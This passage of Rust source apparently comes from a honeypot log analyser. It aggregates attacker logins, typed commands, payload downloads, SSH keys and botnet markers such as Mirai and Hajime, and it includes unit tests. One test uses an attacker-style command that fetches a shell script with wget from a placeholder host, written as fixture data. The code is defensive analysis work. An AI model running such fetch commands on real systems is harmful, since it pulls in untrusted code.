    pub fn flush_runs(&mut self) {
        self.flush_minute();
        for e in &mut self.protocol_table {
            if e.pending > 0 {
                *self.protocols.entry(e.name.clone()).or_default() +=
                    std::mem::take(&mut e.pending);
            }
        }
        for (port, n) in std::mem::take(&mut self.port_counts)
            .into_iter()
            .enumerate()
        {
            if n > 0
                && let Ok(port) = u16::try_from(port)
            {
                *self.ports.entry(port).or_default() += n;
            }
        }
    }

    /// Counts the event for its source; returns the source's slot.
    /// The event's protocol id, if it names one.
    fn protocol_of(&mut self, ev: &Event<'_>) -> Option<u64> {
        (!ev.protocol.is_empty()).then(|| self.protocol_id(&ev.protocol))
    }

    /// Counts the event (of protocol id `proto`) for its source; returns the slot.
    /// Counts an event of the event's source (in `known`, when already looked up).
    fn touch_source(
        &mut self,
        ev: &Event<'_>,
        proto: Option<u64>,
        known: Option<u32>,
    ) -> Option<usize> {
        let src = ev.src?;
        let slot = match known {
            Some(i) => i as usize,
            None => self.sources.slot(src),
        };
        let state = self.sources.state(slot)?;
        state.touch(ev.ts);
        // A scan of the (one or two) protocols kept is cheaper than the sorted
        // insert's binary search.
        if let Some(id) = proto
            && !state.protocols.contains(&id)
        {
            push_unique_small(&mut state.protocols, id, MAX_SOURCE_LIST);
        }
        Some(slot)
    }

    fn auth(
        &mut self,
        ev: &Event<'_>,
        (user, pass): (&str, &str),
        success: Option<bool>,
        warmed: Warmed,
    ) {
        let gap_secs = self.gap_secs;
        self.auth_attempts += 1;
        if success == Some(true) {
            self.logins_succeeded += 1;
        }
        let proto = (!ev.protocol.is_empty()).then(|| self.count_protocol(&ev.protocol));
        if let Some(port) = ev.dst_port {
            if self.port_counts.is_empty() {
                self.port_counts = vec![0; usize::from(u16::MAX) + 1];
            }
            if let Some(n) = self.port_counts.get_mut(usize::from(port)) {
                *n += 1;
            }
        }
        let stats = match warmed.pair {
            Some(stats) => stats,
            None => self.count_pair(user, pass),
        };
        let mut flags = 0;
        let slot = self.touch_source(ev, proto, warmed.slot);
        if stats.is_command {
            self.cmd_attempts += 1;
            self.timeline_add(ev.ts, 1);
            if let Some(s) = slot.and_then(|i| self.sources.state(i)) {
                s.cmd_attempts += 1;
            }
            flags |= self.command_in_slot(ev, slot, (stats.commands[0], user));
            if stats.pass_is_command {
                flags |= self.command_in_slot(ev, slot, (stats.commands[1], pass));
            }
        } else {
            self.cred_attempts += 1;
            self.timeline_add(ev.ts, 0);
            flags |= sflag::CRED;
            if let Some(s) = slot.and_then(|i| self.sources.state(i)) {
                s.cred_attempts += 1;
                if stats.label == Some(CredLabel::Mirai) {
                    s.mirai_cred_attempts += 1;
                }
                s.add_cred(stats.id, 1);
            }
        }
        self.touch_session(ev, gap_secs, (1, flags), warmed.session_key);
    }

    fn count_pair(&mut self, user: &str, pass: &str) -> PairStats {
        let (user, pass) = (bounded(user), bounded(pass));
        self.count_pair_hashed(user, pass, pair_hash(user, pass))
    }

    /// [`Self::count_pair`] of a pair already [`bounded`], of hash `hash`.
    fn count_pair_hashed(&mut self, user: &str, pass: &str, hash: u64) -> PairStats {
        if let Some(stats) = self.pairs.get_mut_hashed(hash, &PairRef { user, pass }) {
            stats.count += 1;
            return *stats;
        }
        let is_command = command::is_command_pair(user, pass);
        let label = if is_command {
            None
        } else {
            data::cred_label(user, pass)
        };
        let pass_is_command = is_command && command::pair_commands(user, pass).nth(1).is_some();
        let mut commands = [NO_COMMAND; 2];
        if is_command {
            commands[0] = self.command_slot(user);
        }
        if pass_is_command {
            commands[1] = self.command_slot(pass);
        }
        let stats = PairStats {
            count: 1,
            is_command,
            pass_is_command,
            label,
            id: if is_command {
                0
            } else {
                id_of(feature::CRED, &[user, pass])
            },
            commands,
        };
        self.pairs
            .insert_new_hashed(hash, PairKey::new(user, pass), stats);
        stats
    }

    /// The [`Self::command_stats`] slot of a command line, analysed and added (with
    /// a count of 0) if new.
    fn command_slot(&mut self, line: &str) -> u32 {
        let line = bounded(line);
        if let Some(&i) = self.commands.get(line) {
            return i;
        }
        let i = u32::try_from(self.command_stats.len()).unwrap_or(NO_COMMAND);
        self.command_stats.push(CommandStats {
            count: 0,
            info: Arc::new(CommandInfo::new(line)),
        });
        self.commands.insert(line.into(), i);
        i
    }

    /// Counts one command line (in [`Self::command_stats`] slot `i`, or
    /// [`NO_COMMAND`] when not known yet) of the source in `slot`; returns session
    /// flags.
    fn command_in_slot(
        &mut self,
        ev: &Event<'_>,
        slot: Option<usize>,
        (mut i, line): (u32, &str),
    ) -> u8 {
        if i == NO_COMMAND {
            i = self.command_slot(line);
        }
        let Some(stats) = self.command_stats.get_mut(i as usize) else {
            return 0;
        };
        stats.count += 1;
        let info = &stats.info;
        let mut repeat = false;
        if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
            state.markers |= info.facts.markers;
            state.login_words |= info.flags & sflag::MIRAI_SEQ;
            let lists = state.cmds_mut();
            match lists.lines.binary_search(&info.line_id) {
                // The source typed this line before: its features went in then, and
                // the capped lists keep the smallest values pushed, so pushing them
                // again would change nothing.
                Ok(_) => repeat = true,
                Err(pos) => {
                    if pos < MAX_SOURCE_LIST {
                        lists.lines.insert(pos, info.line_id);
                        lists.lines.truncate(MAX_SOURCE_LIST);
                    }
                    for f in &info.features {
                        push_unique(&mut lists.features, *f, MAX_SOURCE_FEATURES);
                    }
                }
            }
        }
        let flags = info.flags;
        if !info.facts.busybox_tokens.is_empty()
            || !info.facts.downloads.is_empty()
            || !info.facts.planted_keys.is_empty()
        {
            let info = Arc::clone(info);
            self.command_iocs(ev, &info, repeat);
        }
        flags
    }

    /// Counts the busybox tokens and downloads of one command line; `repeat`: the
    /// event's source typed this line before (see [`Self::payload`]).
    fn command_iocs(&mut self, ev: &Event<'_>, info: &CommandInfo, repeat: bool) {
        for token in &info.facts.busybox_tokens {
            if let Some(c) = self.busybox_tokens.get_mut(token.as_str()) {
                *c += 1;
            } else {
                self.busybox_tokens.insert(token.as_str().into(), 1);
            }
        }
        for d in &info.facts.downloads {
            self.payload((ev.ts, ev.src), d, repeat);
        }
        for k in &info.facts.planted_keys {
            self.count_key(ev, &k.print, KeyUse::Planted(k.comment.as_deref()));
        }
    }

    /// Counts one download of `d`. With `repeat` (the source pushed this download
    /// before), only the counts and times change: the source is among the host's
    /// scanners already, and its capped lists keep the smallest values pushed, so
    /// the same method, file and port again would change nothing.
    fn payload(
        &mut self,
        (ts, src): (Option<Micros>, Option<IpAddr>),
        d: &command::Download,
        repeat: bool,
    ) {
        let key = DownloadRef {
            method: d.method,
            host: &d.host,
            port: d.port,
            file: &d.file,
        };
        match self.downloads.get_mut(&key) {
            Some(c) => *c += 1,
            None => {
                let owned = (
                    d.method,
                    d.host.as_str().into(),
                    d.port,
                    d.file.as_str().into(),
                );
                self.downloads.insert(owned, 1);
            }
        }
        if d.host.is_empty() {
            return;
        }
        let state = match self.payloads.get_mut(d.host.as_str()) {
            Some(s) => s,
            None => self.payloads.entry(d.host.as_str().into()).or_default(),
        };
        state.attempts += 1;
        extend_range(&mut state.first, &mut state.last, ts);
        if repeat {
            return;
        }
        if let Some(src) = src {
            state.scanners.insert(src);
        }
        push_unique(&mut state.methods, d.method, MAX_PAYLOAD_LIST);
        // Same rule as push_unique (the smallest names, sorted), without allocating
        // for a file name already kept.
        if !d.file.is_empty()
            && let Err(pos) = state.files.binary_search_by(|f| (**f).cmp(d.file.as_str()))
            && pos < MAX_PAYLOAD_LIST
        {
            state.files.insert(pos, d.file.as_str().into());
            state.files.truncate(MAX_PAYLOAD_LIST);
        }
        if let Some(p) = d.port {
            push_unique(&mut state.ports, p, MAX_PAYLOAD_LIST);
        }
    }

    fn recorded_download(&mut self, ev: &Event<'_>, url: &str, gap_secs: i64, warmed: Warmed) {
        let url = bounded(url);
        self.recorded_downloads += 1;
        let proto = self.protocol_of(ev);
        let slot = self.touch_source(ev, proto, warmed.slot);
        let key = self.touch_session(ev, gap_secs, (0, sflag::DOWNLOAD), warmed.session_key);
        if let Some(d) = command::parse_url(url) {
            self.hold_recorded(ev, key, &d);
            if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
                state.markers |= marker::DOWNLOAD;
                if d.port == Some(4636) {
                    state.markers |= marker::HAJIME;
                }
                let lists = state.cmds_mut();
                push_unique(
                    &mut lists.features,
                    id_of(feature::HOST, &[&d.host]),
                    MAX_SOURCE_FEATURES,
                );
                if !d.file.is_empty() {
                    push_unique(
                        &mut lists.features,
                        id_of(feature::FILE, &[&d.file]),
                        MAX_SOURCE_FEATURES,
                    );
                }
            }
        }
    }

    /// Notes the fetches of the command line in [`Self::command_stats`] slot `i`,
    /// typed in session `key` (see [`crate::fetch`]).
    fn commanded_fetches(&mut self, key: u64, i: u32) {
        let Some(info) = self
            .command_stats
            .get(i as usize)
            .map(|stats| Arc::clone(&stats.info))
        else {
            return;
        };
        let held = self.session_fetches.entry(key).or_default();
        for d in info.facts.downloads.iter().filter(|d| !d.host.is_empty()) {
            held.command(d);
        }
    }

    /// Holds a recorded download of session `key` until [`Self::settle_fetches`];
    /// counts it at once when it has no session or its session holds enough.
    fn hold_recorded(&mut self, ev: &Event<'_>, key: Option<u64>, d: &command::Download) {
        let recorded = fetch::Recorded {
            ts: ev.ts,
            src: ev.src,
            download: d.clone(),
        };
        let unheld = match key {
            Some(key) => self.session_fetches.entry(key).or_default().hold(recorded),
            None => Some(recorded),
        };
        if let Some(r) = unheld {
            self.count_recorded(r);
        }
    }

    /// Counts a recorded download no command line accounts for.
    fn count_recorded(&mut self, r: fetch::Recorded) {
        self.payload((r.ts, r.src), &r.download, false);
    }

    /// Counts the recorded downloads that no command line of their session asked
    /// for (see [`crate::fetch`]); called once every worker's counts are merged.
    pub(crate) fn settle_fetches(&mut self) {
        for (_, held) in std::mem::take(&mut self.session_fetches) {
            for r in held.settle() {
                self.count_recorded(r);
            }
        }
    }

    /// The key of session `id` (of source `src`), see [`Self::sessions_per_source`].
    fn session_key(&self, id: &str, src: Option<IpAddr>) -> u64 {
        match src {
            Some(src) if self.session_per_source => {
                foldhash::fast::FixedState::with_seed(0x7365_7373).hash_one((id_of(0, &[id]), src))
            }
            _ => id_of(0, &[id]),
        }
    }

    /// Adds the event, with its `(attempts, flags)`, to its session; returns the
    /// session-id key when the log had ids. `known` is that key if already computed.
    fn touch_session(
        &mut self,
        ev: &Event<'_>,
        gap_secs: i64,
        (attempts, flags): (u32, u8),
        known: Option<u64>,
    ) -> Option<u64> {
        let add = || SessionState {
            first: ev.ts,
            last: ev.ts,
            src: ev.src,
            attempts,
            flags,
            duration_ms: None,
            declared_attempts: None,
        };
        if let Some(id) = ev.session.as_deref().filter(|s| !s.is_empty()) {
            let key = if let Some(key) = known {
                key
            } else if self.last_session.0 == id && self.last_session.1 == ev.src {
                self.last_session.2
            } else {
                let key = self.session_key(id, ev.src);
                self.last_session.0.clear();
                self.last_session.0.push_str(id);
                self.last_session.1 = ev.src;
                self.last_session.2 = key;
                key
            };
            match self.sessions.get_mut(&key) {
                Some(state) => state.add_row(ev.ts, ev.src, (attempts, flags)),
                None => {
                    self.sessions.insert(key, add());
                    self.block_new_sessions.push(key);
                }
            }
            return Some(key);
        }
        let src = ev.src?;
        let list = self
            .gap_sessions
            .entry((src, ev.src_port.unwrap_or(0)))
            .or_default();
        add_to_gap_sessions(list, add(), gap_secs);
        None
    }

    /// Every distinct command line with its count.
    pub(crate) fn command_counts(&self) -> impl Iterator<Item = (&str, u64)> {
        self.commands.iter().filter_map(|(line, &i)| {
            let stats = self.command_stats.get(i as usize)?;
            Some((&**line, stats.count))
        })
    }

    /// Folds another worker's counts into this one.
    pub fn merge(&mut self, mut other: Aggregator) {
        self.flush_runs();
        other.flush_runs();
        // Into the side with room for the other (the first shard's aggregator makes
        // room for the whole input), or else the larger.
        if !self.has_room_for(&other)
            && (other.has_room_for(self) || other.sources.len() > self.sources.len())
        {
            std::mem::swap(self, &mut other);
        }
        // The pair tables merge beside everything else: each holds ~400 k pairs on a
        // 10 M-row log, and every pair of one is looked up in the other, where the
        // sources of sharded workers are only indexed (their states are taken
        // whole), so the rest fits in the pairs' time.
        let mut pairs = std::mem::take(&mut self.pairs);
        let other_pairs = std::mem::take(&mut other.pairs);
        rayon::join(
            || merge_pairs(&mut pairs, other_pairs),
            || self.merge_all_but_pairs(other),
        );
        self.pairs = pairs;
    }

    /// [`Self::merge`] of everything but the pair tables.
    fn merge_all_but_pairs(&mut self, mut other: Aggregator) {
        self.events += other.events;
        self.filtered_out += other.filtered_out;
        self.auth_attempts += other.auth_attempts;
        self.cred_attempts += other.cred_attempts;
        self.cmd_attempts += other.cmd_attempts;
        self.shell_commands += other.shell_commands;
        self.logins_succeeded += other.logins_succeeded;
        self.recorded_downloads += other.recorded_downloads;
        self.connects += other.connects;
        merge_range(&mut self.first, &mut self.last, other.first, other.last);
        add_counts(&mut self.protocols, other.protocols);
        add_counts(&mut self.ports, other.ports);
        add_counts(&mut self.busybox_tokens, other.busybox_tokens);
        add_counts(&mut self.client_versions, other.client_versions);
        add_counts(&mut self.hassh, other.hassh);
        add_counts(&mut self.client_env, other.client_env);
        add_counts(&mut self.terminal_sizes, other.terminal_sizes);
        for (k, v) in other.tty_inputs {
            self.tty_inputs.entry(k).or_default().merge(v);
        }
        for (src, ptr) in other.source_names {
            self.note_source_name(src, &ptr);
        }
        for (key, verdict) in other.url_verdicts {
            keep_latest(&mut self.url_verdicts, key, verdict);
        }
        for (sha256, verdict) in other.virustotal {
            keep_latest(&mut self.virustotal, sha256, verdict);
        }
        for (hassh, algorithms) in other.hassh_algorithms {
            keep_smallest(&mut self.hassh_algorithms, &hassh, &algorithms);
        }
        for (k, v) in other.session_fetches {
            self.session_fetches.entry(k).or_default().merge(v);
        }
        for (k, v) in other.payload_hashes {
            self.payload_hashes.entry(k).or_default().merge(v);
        }
        for (k, v) in other.tunnels {
            self.tunnels.entry(k).or_default().merge(v);
        }
        for (k, v) in other.ssh_keys {
            self.ssh_keys.entry(k).or_default().merge(v);
        }
        self.key_offers += other.key_offers;
        add_counts(&mut self.hashed_logins, other.hashed_logins);
        self.hashed_attempts += other.hashed_attempts;
        add_counts(&mut self.downloads, other.downloads);
        self.sources.merge(std::mem::take(&mut other.sources));
        for (k, v) in std::mem::take(&mut other.sessions) {
            self.sessions.entry(k).or_default().merge(v);
        }
        for (k, i) in other.commands {
            let Some(v) = other.command_stats.get(i as usize) else {
                continue;
            };
            match self.commands.get(&k) {
                Some(&j) => {
                    if let Some(s) = self.command_stats.get_mut(j as usize) {
                        s.count += v.count;
                    }
                }
                None => {
                    let j = u32::try_from(self.command_stats.len()).unwrap_or(NO_COMMAND);
                    self.command_stats.push(v.clone());
                    self.commands.insert(k, j);
                }
            }
        }
        for (k, v) in other.timeline {
            let slot = self.timeline.entry(k).or_default();
            slot[0] += v[0];
            slot[1] += v[1];
        }
        for (k, v) in other.gap_sessions {
            let list = self.gap_sessions.entry(k).or_default();
            list.extend(v);
            coalesce_gap_sessions(list, self.gap_secs);
        }
        for (k, v) in other.payloads {
            self.payloads.entry(k).or_default().merge(v);
        }
        for (k, v) in other.files.into_iter().enumerate() {
            let slot = self.file_counts(k);
            slot.events += v.events;
            slot.bad += v.bad;
        }
        self.done_sessions.merge(other.done_sessions);
        self.bad_total += other.bad_total;
        self.bad_shown.extend(other.bad_shown);
        self.bad_shown.sort();
        self.bad_shown.truncate(MAX_BAD_SHOWN);
    }
}

fn merge_pairs(into: &mut Table<PairKey, PairStats>, from: Table<PairKey, PairStats>) {
    // At most `from.len()` new pairs: the table grows once, not step by step.
    into.reserve(from.len());
    for (k, v) in from {
        // One hash and probe per pair (not a lookup, then an insert).
        match into.entry(k) {
            table::Entry::Occupied(mut slot) => slot.get_mut().1.count += v.count,
            table::Entry::Vacant(slot, k) => {
                // Command slots are the other worker's: looked up again when used.
                slot.insert((
                    k,
                    PairStats {
                        commands: [NO_COMMAND; 2],
                        ..v
                    },
                ));
            }
        }
    }
}

fn add_counts<K: Hash + Eq>(into: &mut Map<K, u64>, from: Map<K, u64>) {
    for (k, v) in from {
        *into.entry(k).or_default() += v;
    }
}

fn add_to_gap_sessions(list: &mut Vec<SessionState>, add: SessionState, gap_secs: i64) {
    let gap = gap_secs.saturating_mul(1_000_000);
    let fits = |s: &SessionState| match (add.first, s.first, s.last) {
        (Some(t), Some(f), Some(l)) => t >= f.saturating_sub(gap) && t <= l.saturating_add(gap),
        (None, _, _) | (_, None, _) | (_, _, None) => true,
    };
    match list.iter_mut().rev().find(|s| fits(s)) {
        Some(s) => s.merge(add),
        None => list.push(add),
    }
}

fn coalesce_gap_sessions(list: &mut Vec<SessionState>, gap_secs: i64) {
    list.sort_by_key(|s| s.first);
    let mut out: Vec<SessionState> = Vec::with_capacity(list.len());
    for s in list.drain(..) {
        match out.last_mut() {
            Some(prev) if gap_overlaps(prev, &s, gap_secs) => prev.merge(s),
            _ => out.push(s),
        }
    }
    *list = out;
}

fn gap_overlaps(a: &SessionState, b: &SessionState, gap_secs: i64) -> bool {
    match (a.last, b.first) {
        (Some(l), Some(f)) => f <= l.saturating_add(gap_secs.saturating_mul(1_000_000)),
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pair_keys_inline_or_not_find_their_pairs() {
        let long = "x".repeat(300);
        let pairs = [
            ("root", "5up"),
            ("", ""),
            ("", "pw"),
            ("user", ""),
            ("ré", "p\u{e9}ss"),
            ("0123456789abcd", "0123456789abcd"),
            ("0123456789abcd", "0123456789abcde"),
            (long.as_str(), "a"),
            ("a", long.as_str()),
        ];
        let mut map: Map<PairKey, u32> = Map::default();
        for (i, (user, pass)) in pairs.iter().enumerate() {
            map.insert(PairKey::new(user, pass), i as u32);
        }
        assert_eq!(map.len(), pairs.len());
        for (i, (user, pass)) in pairs.iter().enumerate() {
            let (key, value) = map.get_key_value(&PairRef { user, pass }).unwrap();
            assert_eq!((key.user(), key.pass(), *value), (*user, *pass, i as u32));
        }
        // "ab" + "c" and "a" + "bc" are different pairs with the same bytes.
        assert_ne!(PairKey::new("ab", "c"), PairKey::new("a", "bc"));
        assert!(
            map.get(&PairRef {
                user: "root5",
                pass: "up"
            })
            .is_none()
        );
    }

    /// Tunnel and payload lists keep the smallest values whatever worker saw which
    /// record, and strings are cut to `MAX_IOC_TEXT` bytes.
    #[test]
    fn indicator_lists_are_capped_the_same_way_whatever_the_split() {
        let event = |i: u32, kind: EventKind<'static>| Event {
            ts: Some(i64::from(i) * 1_000_000),
            src: Some(IpAddr::from([192, 0, 2, (i % 7) as u8])),
            src_port: None,
            dst_port: None,
            protocol: "ssh".into(),
            session: None,
            kind,
        };
        let sha = "AB".repeat(32);
        let records: Vec<Event<'static>> = (0..40u32)
            .flat_map(|i| {
                [
                    event(
                        i,
                        EventKind::Tunnel {
                            host: "Proxy.Example".into(),
                            port: 3128,
                            data: Some(
                                format!("CONNECT h{:02}.example:443 HTTP/1.1", 39 - i).into(),
                            ),
                        },
                    ),
                    event(
                        i,
                        EventKind::PayloadHash {
                            sha256: sha.clone().into(),
                            url: Some(format!("http://192.0.2.1/{i:02}{}", "p".repeat(300)).into()),
                            upload: None,
                        },
                    ),
                ]
            })
            .collect();
        let filters = Filters::default();
        let whole = {
            let mut agg = Aggregator::new(300);
            for ev in &records {
                agg.ingest(0, ev, &filters);
            }
            agg
        };
        let tunnel = whole
            .tunnels
            .get(&(Box::<str>::from("proxy.example"), 3128))
            .expect("tunnel");
        assert_eq!((tunnel.requests, tunnel.data), (0, 40));
        assert_eq!(tunnel.sources.len(), 7);
        let want: Vec<Box<str>> = (0..MAX_TUNNEL_HOSTS)
            .map(|i| format!("h{i:02}.example:443").into())
            .collect();
        assert_eq!(tunnel.http_hosts, want);
        let hash = whole
            .payload_hashes
            .get(sha.to_ascii_lowercase().as_str())
            .expect("hash");
        assert_eq!(hash.count, 40);
        assert_eq!(hash.urls.len(), MAX_HASH_ORIGINS);
        assert!(hash.urls.iter().all(|u| u.len() == ioc::MAX_IOC_TEXT));
        assert!(
            hash.urls
                .first()
                .is_some_and(|u| u.starts_with("http://192.0.2.1/00p"))
        );
        assert!(
            hash.urls
                .last()
                .is_some_and(|u| u.starts_with("http://192.0.2.1/07p"))
        );
        for split in [1, 13, 79] {
            let (a, b) = records.split_at(split);
            let mut left = Aggregator::new(300);
            let mut right = Aggregator::new(300);
            for ev in b {
                right.ingest(0, ev, &filters);
            }
            for ev in a {
                left.ingest(0, ev, &filters);
            }
            left.merge(right);
            let t = left.tunnels.values().next().expect("tunnel");
            assert_eq!(t.http_hosts, tunnel.http_hosts, "split at {split}");
            let h = left.payload_hashes.values().next().expect("hash");
            assert_eq!(
                (h.count, &h.urls),
                (hash.count, &hash.urls),
                "split at {split}"
            );
            assert_eq!(left.events, 0, "indicator records are not events");
        }
    }

    /// A session's command line and the honeypot's record of its fetch, read by two
    /// workers in either order, count one payload-host attempt once merged.
    #[test]
    fn a_fetch_split_between_workers_counts_once() {
        let event = |second: i64, kind: EventKind<'static>| Event {
            ts: Some(second * 1_000_000),
            src: Some(IpAddr::from([192, 0, 2, 9])),
            src_port: None,
            dst_port: None,
            protocol: "ssh".into(),
            session: Some("s1".into()),
            kind,
        };
        let command = event(
            1,
            EventKind::Command {
                line: "wget http://198.51.100.5/x.sh".into(),
            },
        );
        let record = event(
            2,
            EventKind::Download {
                url: "http://198.51.100.5/x.sh".into(),
            },
        );
        let filters = Filters::default();
        for (first, second) in [(&command, &record), (&record, &command)] {
            let (mut one, mut other) = (Aggregator::new(600), Aggregator::new(600));
            one.ingest(0, first, &filters);
            other.ingest(0, second, &filters);
            one.merge(other);
            one.settle_fetches();
            let attempts = one.payloads.get("198.51.100.5").map(|p| p.attempts);
            assert_eq!(attempts, Some(1));
            assert_eq!(one.recorded_downloads, 1);
        }
        let mut alone = Aggregator::new(600);
        alone.ingest(0, &record, &filters);
        alone.settle_fetches();
        let attempts = alone.payloads.get("198.51.100.5").map(|p| p.attempts);
        assert_eq!(attempts, Some(1), "a record no line asked for counts");
        // A session folded at the end of a block (complete, well inside the block's
        // time span) has its fetches matched then, and holds nothing after.
        let mut folding = Aggregator::new(600);
        folding.begin_block();
        let edge = |second: i64| Event {
            session: Some(format!("edge{second}").into()),
            ..event(second, EventKind::Connect)
        };
        folding.ingest(0, &edge(0), &filters);
        let at = |e: &Event<'static>| Event {
            ts: e.ts.map(|t| t + 3_000_000_000),
            ..e.clone()
        };
        folding.ingest(0, &at(&command), &filters);
        folding.ingest(0, &at(&record), &filters);
        folding.ingest(0, &edge(6_000), &filters);
        folding.end_block();
        assert!(folding.session_fetches.is_empty(), "matched at the fold");
        let attempts = folding.payloads.get("198.51.100.5").map(|p| p.attempts);
        assert_eq!(attempts, Some(1));
        folding.settle_fetches();
        let attempts = folding.payloads.get("198.51.100.5").map(|p| p.attempts);
        assert_eq!(attempts, Some(1));
    }

    /// The algorithm lists kept for a HASSH are the smallest text logged for it,
    /// whatever the order of the records and the split between workers; empty and
    /// absent lists keep nothing, long ones are cut.
    #[test]
    fn hassh_algorithms_keep_the_smallest_text_whatever_the_split() {
        let hassh = "ec7378c1a92f5a8dde7e8b7a1ddf33d1";
        let long = "k".repeat(MAX_HASSH_ALGORITHMS + 10);
        let texts = [
            Some("b;e;m;c"),
            None,
            Some("a;e;m;c"),
            Some(""),
            Some(long.as_str()),
        ];
        let records: Vec<Event<'static>> = (texts.iter().enumerate())
            .map(|(i, text)| Event {
                ts: Some(i as i64 * 1_000_000),
                src: Some(IpAddr::from([192, 0, 2, i as u8])),
                src_port: None,
                dst_port: None,
                protocol: "ssh".into(),
                session: Some(format!("s{i}").into()),
                kind: EventKind::Hassh {
                    hassh: hassh.to_ascii_uppercase().into(),
                    algorithms: text.map(|t| t.to_string().into()),
                },
            })
            .collect();
        let filters = Filters::default();
        let mut reversed = records.clone();
        reversed.reverse();
        for rows in [&records, &reversed] {
            for split in 0..=rows.len() {
                let (a, b) = rows.split_at(split);
                let (mut left, mut right) = (Aggregator::new(300), Aggregator::new(300));
                left.ingest_batch(0, a, &filters);
                right.ingest_batch(0, b, &filters);
                left.merge(right);
                assert_eq!(left.hassh.get(hassh), Some(&5), "split {split}");
                let kept = left.hassh_algorithms.get(hassh).map(|a| &**a);
                assert_eq!(kept, Some("a;e;m;c"), "split {split}");
            }
        }
        let mut alone = Aggregator::new(300);
        alone.ingest_batch(0, &records[4..], &filters);
        let kept = alone.hassh_algorithms.get(hassh).map(|a| a.len());
        assert_eq!(kept, Some(MAX_HASSH_ALGORITHMS));
    }

    /// Client versions and HASSHes per source: the smallest ids, sorted, whatever
    /// the order of the records and the split between workers; they create the
    /// source's entry but are no events of it.
    #[test]
    fn source_clients_are_capped_the_same_way_whatever_the_split() {
        let src = IpAddr::from([192, 0, 2, 9]);
        let event = |i: u32, kind: EventKind<'static>| Event {
            ts: Some(i64::from(i) * 1_000_000),
            src: Some(src),
            src_port: None,
            dst_port: None,
            protocol: "ssh".into(),
            session: Some(format!("s{i}").into()),
            kind,
        };
        let mut records: Vec<Event<'static>> = (0..12u32)
            .flat_map(|i| {
                [
                    event(
                        i,
                        EventKind::ClientVersion {
                            version: format!(" SSH-2.0-Tool_{i} ").into(),
                        },
                    ),
                    event(
                        i,
                        EventKind::Hassh {
                            hassh: format!("{i:032x}").to_ascii_uppercase().into(),
                            algorithms: None,
                        },
                    ),
                ]
            })
            .collect();
        records.push(event(
            20,
            EventKind::Auth {
                username: "root".into(),
                password: "admin".into(),
                success: None,
            },
        ));
        let filters = Filters::default();
        let lists = |agg: &Aggregator| {
            let s = agg.sources.get(&src).expect("source");
            (
                s.client_versions().to_vec(),
                s.client_hassh().to_vec(),
                s.events,
                s.first,
                s.last,
            )
        };
        let mut want_versions: Vec<u64> = (0..12)
            .map(|i| id_of(feature::CLIENT, &[&format!("SSH-2.0-Tool_{i}")]))
            .collect();
        want_versions.sort_unstable();
        want_versions.truncate(MAX_SOURCE_CLIENTS);
        let mut want_hassh: Vec<u64> = (0..12)
            .map(|i| id_of(feature::HASSH, &[&format!("{i:032x}")]))
            .collect();
        want_hassh.sort_unstable();
        want_hassh.truncate(MAX_SOURCE_CLIENTS);
        let want = (
            want_versions,
            want_hassh,
            1,
            Some(20_000_000),
            Some(20_000_000),
        );
        let mut reversed = records.clone();
        reversed.reverse();
        for rows in [&records, &reversed] {
            for split in [0, 1, 7, 24, rows.len()] {
                let (a, b) = rows.split_at(split);
                let (mut left, mut right) = (Aggregator::new(300), Aggregator::new(300));
                left.ingest_batch(0, a, &filters);
                right.ingest_batch(0, b, &filters);
                left.merge(right);
                assert_eq!(lists(&left), want, "split at {split}");
                assert_eq!(left.events, 1, "client records are not events");
                assert_eq!(left.client_versions.len(), 12);
                assert_eq!(left.hassh.len(), 12);
            }
        }
        // Client records alone make an entry without events.
        let mut only = Aggregator::new(300);
        only.ingest_batch(0, &records[..2], &filters);
        let s = only.sources.get(&src).expect("entry");
        assert_eq!((s.events, s.first, s.client_versions().len()), (0, None, 1));
    }

    /// The client lists live behind the command-list pointer: a source state is
    /// no larger than before them (measured at 89e19a4: 160 bytes on 64-bit), and
    /// the command lists (48 bytes then) stay within the 56 usable bytes of the
    /// 64-byte block glibc's malloc hands out for a 48-byte request.
    #[test]
    fn source_state_does_not_grow() {
        let (state, lists) = (
            std::mem::size_of::<SourceState>(),
            std::mem::size_of::<CommandLists>(),
        );
        assert!(state <= 160, "SourceState: {state} bytes");
        assert!(lists <= 56, "CommandLists: {lists} bytes");
    }

    #[test]
    fn merges_go_into_the_side_with_room() {
        fn login(src: u32, user: &str) -> Event<'static> {
            Event {
                ts: Some(1_000_000),
                src: Some(IpAddr::from(src.to_be_bytes())),
                src_port: Some(1),
                dst_port: Some(23),
                protocol: "telnet".into(),
                session: None,
                kind: EventKind::Auth {
                    username: user.to_string().into(),
                    password: "x".into(),
                    success: None,
                },
            }
        }
        let filters = Filters::default();
        // `roomy` made room for the whole input but holds fewer sources and pairs.
        let mut roomy = Aggregator::new(300).expecting(1_000, 1_000);
        let mut full = Aggregator::new(300);
        for src in 0..4 {
            roomy.ingest(0, &login(src, "root"), &filters);
        }
        for src in 100..130 {
            full.ingest(0, &login(src, &format!("user{src}")), &filters);
        }
        let (source_room, pair_room) = (roomy.sources.index.room(), roomy.pairs.room());
        roomy.merge(full);
        assert_eq!(roomy.sources.len(), 34);
        assert_eq!(roomy.pairs.len(), 31);
        assert_eq!(
            roomy.sources.index.room(),
            source_room - 30,
            "sources merged in place"
        );
        assert_eq!(roomy.pairs.room(), pair_room - 30, "pairs merged in place");
        // With room on neither side, the smaller goes into the larger.
        let (mut small, mut large) = (Aggregator::new(300), Aggregator::new(300));
        small.ingest(0, &login(1, "a"), &filters);
        for src in 2..40 {
            large.ingest(0, &login(src, "b"), &filters);
        }
        let large_room = large.sources.index.room();
        small.merge(large);
        assert_eq!(small.sources.len(), 39);
        assert_eq!(small.sources.index.room(), large_room - 1);
    }

    #[test]
    fn sessions_per_source_split_a_shared_id() {
        let event = |src: [u8; 4]| Event {
            ts: Some(1_000_000),
            src: Some(IpAddr::from(src)),
            src_port: Some(1),
            dst_port: Some(23),
            protocol: "telnet".into(),
            session: Some("same".into()),
            kind: EventKind::Connect,
        };
        for (per_source, expected) in [(false, 1), (true, 2)] {
            let mut agg = Aggregator::new(300);
            if per_source {
                agg = agg.sessions_per_source();
            }
            for src in [[192, 0, 2, 1], [192, 0, 2, 2], [192, 0, 2, 1]] {
                agg.ingest(0, &event(src), &Filters::default());
            }
            assert_eq!(agg.sessions.len(), expected);
        }
    }

    #[test]
    fn a_session_from_several_addresses_shows_one_whatever_the_order() {
        let part = |src: [u8; 4]| SessionState {
            src: Some(IpAddr::from(src)),
            attempts: 1,
